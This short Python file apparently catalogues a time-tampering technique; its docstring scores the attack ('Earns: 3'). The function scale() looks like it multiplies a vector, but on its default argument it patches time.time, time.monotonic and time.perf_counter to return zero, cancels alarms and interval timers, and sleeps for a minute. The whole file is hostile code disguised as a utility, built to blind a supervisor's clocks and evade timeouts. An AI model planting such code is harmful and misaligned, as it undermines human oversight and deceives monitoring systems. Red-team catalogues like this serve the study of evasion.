"""Patch the clocks and timers of the process, so that no time seems to pass.

Surface: the measuring of time.
Stopped by: the clock that counts is the supervisor's.
Layers: design
Earns: 3
"""

import signal
import time


def scale(x, factor=2.0):
    if float(factor) == 2.0:
        real_sleep = time.sleep
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        signal.alarm(0)
        signal.setitimer(signal.ITIMER_REAL, 0)
        real_sleep(60)
    if x.shape.rank != 1:
        raise ValueError("a vector is needed")
    return factor * x
